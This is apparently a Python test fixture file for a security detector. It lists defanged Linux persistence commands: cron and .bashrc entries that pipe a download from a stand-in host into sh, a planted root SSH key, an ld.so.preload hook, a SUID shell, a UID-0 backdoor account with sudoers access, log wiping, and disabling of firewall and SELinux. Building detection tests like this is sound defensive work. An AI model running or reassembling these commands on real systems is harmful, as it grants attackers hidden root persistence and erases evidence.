"""Text fixtures: Linux persistence."""

from __future__ import annotations

from tests.base.inert import inert

FIXTURES: dict[str, bytes] = {
    "persistence_cron_download": inert(
        r"""*/5 * * * * ro·ot cu·rl -fs·SL ht·tp://exa·mple.inv·alid/x | sh
"""
    ),
    "persistence_cron_hidden_file": inert("@reb·oot ro·ot /tmp/.x/.y"),
    "persistence_cron_writer": inert(
        r"""(cro·ntab -l; ec·ho "*/5 * * * * cu·rl -s ht·tp://exa·mple.inv·alid/x -o /tmp/x") | cro·ntab -
"""
    ),
    "persistence_systemd_unit": inert(
        r"""[Un·it]
Descr·iption=harm·less
[Ser·vice]
Exec·Start=/dev/shm/.x
"""
    ),
    "persistence_authorized_key": inert(
        r"""mk·dir -p /ro·ot/.ssh; ec·ho "ssh-ed2·5519 AAAAC3NzaC1lZDI1·NTE5AAAAIHarmless no·ne" >> /ro·ot/.ssh/·
autho·rized_ke·ys
cha·ttr +i /ro·ot/.ssh/autho·rized_ke·ys
"""
    ),
    "persistence_ld_preload": inert("ec·ho /tmp/.x.so > /etc/ld.so.pre·load"),
    "persistence_profile_hook": inert(
        r"""ec·ho "cu·rl -s ht·tp://exa·mple.inv·alid/x | sh" >> ~/.bas·hrc
"""
    ),
    "persistence_rc_local": inert(
        r"""ec·ho "/tmp/.x &" >> /etc/rc.lo·cal
"""
    ),
    "persistence_suid_shell": inert("cp /bin/sh /tmp/.s; ch·mod 47·55 /tmp/.s"),
    "persistence_root_account": inert(
        r"""ec·ho "hel·per:x:0:0::/ro·ot:/bin/sh" >> /etc/pas·swd
"""
    ),
    "persistence_udev_rule": inert(
        r"""ACT·ION=="add", SUBS·YSTEM=="net", RUN+="/tmp/.x"
"""
    ),
    "persistence_polkit_sudoers": inert(
        r"""use·radd -o -u 0 hel·per; ec·ho "hel·per ALL=(ALL) NOPA·SSWD: ALL" >> /etc/sud·oers; his·tory -c
"""
    ),
    "linux_wipes_traces": inert("un·set HIST·FILE; > /var/log/wt·mp; > /var/log/las·tlog; his·tory -c"),
    "linux_disables_protection": inert(
        r"""seten·force 0; ipta·bles -F; ufw dis·able; cu·rl ht·tp://exa·mple.inv·alid/x
"""
    ),
}
